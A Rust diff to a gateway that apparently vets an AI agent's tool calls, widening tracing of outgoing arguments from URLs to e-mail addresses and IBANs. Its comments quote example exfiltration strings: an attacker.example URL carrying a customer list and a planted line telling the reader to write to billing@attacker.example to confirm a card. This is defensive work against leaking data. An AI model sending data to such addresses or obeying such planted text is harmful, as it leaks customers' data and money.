@@ -90,8 +90,9 @@ impl Gateway {
         // A recipient is traced by its addresses (an e-mail) or its whole values (an IBAN, a
         // counterparty of another channel), and must name at least one; a traced argument only
         // by the values its trace picks (the links in a body may be none). Every other
-        // argument of a call that is not a read is traced for links: a URL is where data
-        // leaves by (`https://attacker.example/p.png?d=<the customer list>`).
+        // argument of a call that is not a read is traced for where data or money can go: a
+        // URL (`https://attacker.example/p.png?d=<the customer list>`), an e-mail address
+        // ("write to billing@attacker.example to confirm your card"), an IBAN.
         let mut traced_args: Vec<(&String, Trace, bool)> = tool
             .recipients
             .iter()
@@ -102,18 +103,22 @@ impl Gateway {
                 };
                 (arg, trace, true)
             })
-            .chain(
-                tool.provenance
-                    .iter()
-                    .map(|(arg, t)| (arg, *t, *t == Trace::Any)),
-            )
+            .chain(tool.provenance.iter().map(|(arg, t)| {
+                // A call that is not a read traces at least where data or money can go.
+                let t = match t {
+                    Trace::Any => Trace::Any,
+                    _ if tool.kind != ToolKind::Read => Trace::Reach,
+                    other => *other,
+                };
+                (arg, t, t == Trace::Any)
+            }))
             .collect();
         if tool.kind != ToolKind::Read
             && let Some(args) = action.arguments.as_object()
         {
             for arg in args.keys() {
                 if !tool.recipients.contains_key(arg) && !tool.provenance.contains_key(arg) {
-                    traced_args.push((arg, Trace::Url, false));
+                    traced_args.push((arg, Trace::Reach, false));
                 }
             }
         }
